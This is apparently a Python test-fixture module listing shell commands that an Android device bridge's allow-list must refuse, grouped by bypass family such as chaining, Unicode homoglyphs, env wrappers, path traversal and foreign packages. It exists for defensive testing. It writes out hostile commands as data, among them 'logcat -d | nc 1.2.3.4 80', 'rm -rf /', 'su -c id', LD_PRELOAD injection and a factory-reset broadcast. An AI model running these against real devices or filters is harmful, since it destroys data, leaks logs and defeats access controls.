"""The allow-list bypass catalogue: shell commands a hostile controller (or a borrower) might
send to get past the bridge's policy (docs/design.md §6).

Each attempt says which profiles must refuse it: ``ANY`` (metacharacters, look-alikes, the
deny list: refused even under ``full``) or ``STANDARD`` (only the standard allow-list stops it:
foreign packages, paths outside the droidwire folder, state-changing reads, oversize
arguments). ``APP`` is the one package the run installed (the app under test); every other
package is foreign.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["ANY", "APP", "ATTEMPTS", "STANDARD", "Attempt"]

ANY = "any"
STANDARD = "standard"
APP = "com.example.app"
_DW = "/data/local/tmp/droidwire"


@dataclass(frozen=True, slots=True)
class Attempt:
    family: str
    command: str | tuple[str, ...]
    scope: str = ANY

    def params(self, serial: str) -> dict[str, object]:
        if isinstance(self.command, tuple):
            return {"serial": serial, "argv": list(self.command)}
        return {"serial": serial, "command": self.command}

    def __str__(self) -> str:
        return f"[{self.family}] {self.command!r}"[:160]


def _a(family: str, scope: str, *commands: str | tuple[str, ...]) -> list[Attempt]:
    return [Attempt(family, c, scope) for c in commands]


ATTEMPTS: list[Attempt] = [
    # Chaining and substitution with plain ASCII metacharacters.
    *_a("chaining", ANY,
        "echo a; reboot", "echo a;reboot", "echo a && reboot", "echo a || reboot",
        "echo a | sh", "echo a & reboot", "echo `reboot`", "echo $(reboot)", "echo a\nreboot",
        "echo a\r\nreboot", "echo a\rreboot", "getprop > /sdcard/owned", "getprop >> /x",
        "echo x < /etc/passwd", "echo a;;reboot", "(reboot)", "{ reboot; }", "echo a\x00reboot",
        "echo a\treboot", "getprop ro.x;id", "logcat -d | nc 1.2.3.4 80", "echo a 2>&1",
        "echo *", "ls /data/local/tmp/droidwire/?", "echo ~", "echo !!", "echo a # comment",
        ("echo", "a;reboot"), ("echo", "$(id)"), ("echo", "`id`"), ("echo", "a\nreboot"),
        ("echo", "a|sh"), ("getprop", "ro.x>/sdcard/y"), ("echo", "a&&reboot")),
    # Quotes that hide metacharacters, or smuggle quotes through splitting.
    *_a("quoting", ANY,
        "echo 'a;reboot'", 'echo "a;reboot"', "echo 'a'\"'\"';reboot'", "echo a\\;reboot",
        "echo \"$(reboot)\"", "echo '`reboot`'", "'reboot'", '"reboot"', "'su' -c id",
        "r'e'boot", ("echo", "it's"), ("echo", 'say "hi"'), "echo 'unterminated",
        "echo \"unterminated"),
    # Unicode look-alikes of metacharacters, invisible characters, homoglyph commands.
    *_a("unicode", ANY,
        "echo a\uff1breboot",  # fullwidth semicolon
        "echo a\u037ereboot",  # Greek question mark (NFKC: ';')
        "echo a\uff5creboot",  # fullwidth vertical line
        "echo a\uff06\uff06reboot",  # fullwidth ampersands
        "echo \uff04(reboot)",  # fullwidth dollar
        "echo \uff40reboot\uff40",  # fullwidth grave accent
        "echo a\u2028reboot",  # line separator
        "echo a\u2029reboot",  # paragraph separator
        "echo a\u0085reboot",  # next line (C1)
        "echo a\u00a0;reboot",  # no-break space before a semicolon
        "re\u200bboot",  # zero-width space inside a denied name
        "echo a\u202ereboot",  # right-to-left override
        "echo a\ufeffreboot",  # BOM
        "\u0435cho a",  # Cyrillic e: a homoglyph command name
        "\uff45\uff43\uff48\uff4f a",  # fullwidth 'echo'
        "echo \u2018a;reboot\u2019",  # curly quotes hiding a semicolon
        "echo a\ufe54reboot",  # small semicolon
        "echo a\u204freboot",  # reversed semicolon
        ("echo", "a\uff1breboot"), ("echo", "\u037e")),
    # Environment and wrapper tricks.
    *_a("env", ANY,
        "PATH=/data/local/tmp echo a", "LD_PRELOAD=/data/local/tmp/x.so echo a",
        "env reboot", "env -i reboot", "FOO=bar getprop", "IFS=x echo a",
        "echo ${IFS}reboot", "echo $HOME", "nohup reboot", "xargs reboot", "toybox reboot",
        "busybox reboot", "run-as com.android.settings id", "exec reboot", "eval reboot",
        "command reboot", "sh -c reboot", "/system/bin/sh -c id", "bash -c id", "mksh -c id",
        "su -c id", "su 0 id", "setprop persist.sys.x 1", "reboot", "/system/bin/reboot",
        "./reboot", "dd if=/dev/zero of=/sdcard/x", "chmod 777 /data", "chown shell /data",
        "svc power reboot", "svc power shutdown", "rm -rf /", "rm -r /data", "rm -rf //system",
        "rm -R /sdcard/../sdcard", "X=1 reboot", "X=1 su -c id", "A=b sh -c id",
        "LD_PRELOAD=/data/local/tmp/x.so id", "X=1 rm -rf /", ("X=1", "reboot"),
        ("env", "reboot"), ("sh", "-c", "reboot"),
        ("/system/bin/su",), ("nice", "reboot"), ("timeout", "1", "reboot"), ("time", "reboot")),
    # Long arguments and numbers past the allow-list's bounds.
    *_a("long arguments", STANDARD,
        "echo " + "A" * 9000, ("echo", "A" * 5000), ("echo", *(["a"] * 300)),
        "input text " + "a" * 501, "logcat -d -t 5001", "logcat -d -t 99999999999",
        "input swipe 10 10 20 20 10001", "input tap 999999 999999", "input tap -1 -1",
        "getprop " + "k" * 200, "logcat -d -v " + "x" * 300, "dumpsys " + "w" * 1000,
        "input keyevent " + "1" * 50),
    # Paths outside the droidwire folder for ls / rm / uiautomator / screencap.
    *_a("path traversal", STANDARD,
        f"ls {_DW}/../..", f"ls {_DW}/../../../system", f"rm {_DW}/../x", f"rm -f {_DW}/..",
        f"ls {_DW}2", f"ls {_DW}/./../tmp", "ls //data/local/tmp/droidwire/../../data",
        "ls /sdcard", "ls /data/data/com.android.settings", "rm /sdcard/DCIM/photo.jpg",
        "ls", "ls data/local/tmp/droidwire", f"rm {_DW}", f"ls {_DW}/../droidwire/../..",
        "uiautomator dump /sdcard/ui.xml", f"uiautomator dump {_DW}/../../ui.xml",
        "screencap -p /sdcard/s.png", "logcat -f /sdcard/log.txt", f"rm -r {_DW}/../../tmp",
        ("ls", f"{_DW}/../../../../"), ("rm", "-f", "/data/system/packages.xml")),
    # am / pm on packages that are not the run's.
    *_a("foreign packages", STANDARD,
        "am start -n com.android.settings/.Settings", "am force-stop com.android.systemui",
        "am instrument -w com.other.test/androidx.test.runner.AndroidJUnitRunner",
        "pm clear com.google.android.gms", "pm clear com.android.providers.contacts",
        "pm uninstall com.android.chrome", "pm grant com.other android.permission.CAMERA",
        "pm disable-user com.android.phone", "pm install /sdcard/evil.apk",
        "am broadcast -a android.intent.action.MASTER_CLEAR",
        "am start -a android.intent.action.CALL -d tel:123",
        "am start -n com.android.settings/.Settings --activity-clear-task",
        f"am start -n {APP}x/.Main", f"am start -n {APP}.evil/.Main",
        f"am force-stop {APP}2", "am kill-all", "am stack remove 0", "cmd package list packages",
        "settings put global adb_enabled 0", "svc wifi disable", "content delete --uri x",
        f"am start -n {APP}/.Main --user 10", f"am startservice -n {APP}/.S", "am crash system"),
    # Reads that would write, and commands not on the allow-list at all.
    *_a("state changes", STANDARD,
        "dumpsys battery set level 1", "dumpsys battery reset", "dumpsys battery unplug",
        "dumpsys activity kill 1", "wm size 100x100", "wm density 100", "wm size reset",
        "logcat -G 16M", "logcat -P '~!'", "logcat -b radio -d", "logcat -b kernel -d",
        "logcat -c -b all", "export PATH=/tmp", "cat /data/system/packages.xml", "id", "ps -A", "netstat",
        "input tap 10", "screencap /sdcard/s.png", "getprop ro.x ro.y ro.z", "kill -9 1"),
]
